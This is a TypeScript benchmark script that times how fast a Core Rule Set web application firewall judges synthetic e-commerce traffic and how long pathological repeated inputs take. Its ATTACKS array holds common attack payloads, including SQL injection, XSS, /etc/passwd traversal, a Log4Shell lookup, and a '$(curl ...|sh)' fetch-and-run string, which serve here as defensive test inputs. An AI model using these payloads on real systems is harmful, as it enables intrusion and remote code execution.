// How many requests a second the Core Rule Set judges on one core, and how long one hostile value takes.
//   node bench/crs.ts [FOLDER] [REQUESTS]
import { readCrsFolder } from '../src/cli/crs-folder.ts';
import { loadCrs } from '../src/crs/load.ts';
import { loadNativeEngine } from '../src/crs/regex/native.ts';
import type { CrsRequest } from '../src/crs/request/request.ts';

const [folder = '/usr/share/modsecurity-crs', count = '10000'] = process.argv.slice(2);

const WORDS =
  'red blue shoes shirt leather summer winter kids women men sale new size cotton wool jacket'.split(' ');
const ATTACKS = [
  "1' OR '1'='1",
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  ';cat /etc/passwd',
  '1 UNION SELECT a,b FROM users',
  '<img src=x onerror=alert(1)>',
  '${jndi:ldap://e/a}',
  "<?php system('id');?>",
  '$(curl http://e/x|sh)',
  'http://evil.example/x.php?',
];
/** Inputs on which backtracking engines are known to be slow: one thing again and again. */
const REPEATED = [
  'a',
  ' ',
  '<',
  '"',
  "'",
  '(',
  '/',
  '\\',
  'a=',
  '../',
  '<a ',
  "' or ",
  'select ',
  '/*',
  '1,',
  ';&',
  '{{',
  "'a",
  '%u',
  '&#x',
  '`',
  '$(',
  'on=',
  '@import',
  '<!--',
  '[]',
  '\xe2\x80\x98',
  'union select ',
];

/** The value as a field of a form, where it stands as it is. */
function withField(value: string, pick: (below: number) => number): CrsRequest {
  const { headers, ...rest } = request('/', pick);
  const body = `--b\r\nContent-Disposition: form-data; name="f"\r\n\r\n${value}\r\n--b--\r\n`;
  const type = ['Content-Type', 'multipart/form-data; boundary=b'] as const;
  return { ...rest, method: 'POST', headers: [...headers, type], body };
}

/** The same numbers each time, so that runs can be compared. */
function numbers(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) & 0x7fffffff;
    return (state >>> 8) % below;
  };
}

function request(target: string, pick: (below: number) => number): CrsRequest {
  return {
    method: 'GET',
    target,
    version: '1.1',
    headers: [
      ['Host', 'shop.example'],
      [
        'User-Agent',
        `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${100 + pick(40)}.0.0.0 Safari/537.36`,
      ],
      ['Accept', 'text/html,*/*;q=0.8'],
      ['Accept-Language', 'en-GB,en;q=0.5'],
      ['Accept-Encoding', 'gzip, deflate, br'],
      ['Referer', `https://shop.example/product/${pick(5000)}`],
      ['Cookie', `session=${pick(1e6).toString(36)}${pick(1e6).toString(36)}; cart=${pick(50)}; lang=en`],
    ],
    body: '',
    remote: { address: `198.51.100.${pick(250)}`, port: 1000 },
    id: 'bench',
  };
}

function ordinaryTarget(pick: (below: number) => number): string {
  const word = (): string => WORDS[pick(WORDS.length)] ?? '';
  switch (pick(4)) {
    case 0:
      return `/product/${pick(5000)}/${word()}-${word()}`;
    case 1:
      return `/search?q=${word()}+${word()}&page=${pick(20)}&sort=price`;
    case 2:
      return `/static/app.${pick(90)}.js`;
    default:
      return `/category/${word()}?min=${pick(100)}&max=${pick(1000)}`;
  }
}

function traffic(amount: number): CrsRequest[] {
  const pick = numbers(1);
  return Array.from({ length: amount }, (_, at) => {
    const attack = `/search?q=${encodeURIComponent(`${ATTACKS[pick(ATTACKS.length)] ?? ''}${pick(1000)}`)}&page=${pick(9)}`;
    return request(at % 10 === 0 ? attack : ordinaryTarget(pick), pick);
  });
}

const native = loadNativeEngine();
for (const [name, engine] of [
  ['native', native],
  ['re2js only', undefined],
] as const) {
  if (name === 'native' && native === undefined) continue;
  const started = performance.now();
  const crs = loadCrs(readCrsFolder(folder), engine);
  console.log(
    `${name}: ${crs.signature}, ${crs.rules} rules, loaded in ${(performance.now() - started).toFixed(0)} ms`,
  );
  const requests = traffic(Number(count));
  for (const one of requests.slice(0, 3000)) crs.judge(one);
  const before = process.cpuUsage();
  const from = performance.now();
  const times = requests.map((one) => {
    const at = performance.now();
    crs.judge(one);
    return performance.now() - at;
  });
  const wall = performance.now() - from;
  const { user, system } = process.cpuUsage(before);
  times.sort((a, b) => a - b);
  const median = times[Math.floor(times.length / 2)] ?? 0;
  console.log(
    `  ${((requests.length / wall) * 1000).toFixed(0)} requests/s, ${((requests.length / (user + system)) * 1e6).toFixed(0)} a second of processor time, median ${(median * 1000).toFixed(0)} us`,
  );
  const slow = REPEATED.map((piece) => {
    const value = piece.repeat(8192 / piece.length);
    const runs = [1, 2, 3].map((run) => {
      const at = performance.now();
      crs.judge(withField(`${value}${run}`, numbers(run)));
      return performance.now() - at;
    });
    return { piece, ms: Math.min(...runs) };
  }).toSorted((a, b) => b.ms - a.ms);
  const told = slow.slice(0, 4).map(({ piece, ms }) => `${JSON.stringify(piece)} ${ms.toFixed(1)} ms`);
  console.log(`  one argument of 8 KiB, slowest: ${told.join(', ')}`);
}
